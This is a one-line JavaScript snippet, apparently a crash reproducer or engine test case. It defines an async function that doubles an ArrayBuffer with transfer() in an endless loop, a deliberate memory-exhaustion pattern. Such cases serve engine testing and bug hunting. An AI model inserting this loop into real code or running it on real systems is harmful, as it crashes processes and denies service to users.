async function onTrack() { let b = new ArrayBuffer(1); for (;;) b = b.transfer(b.byteLength * 2); }
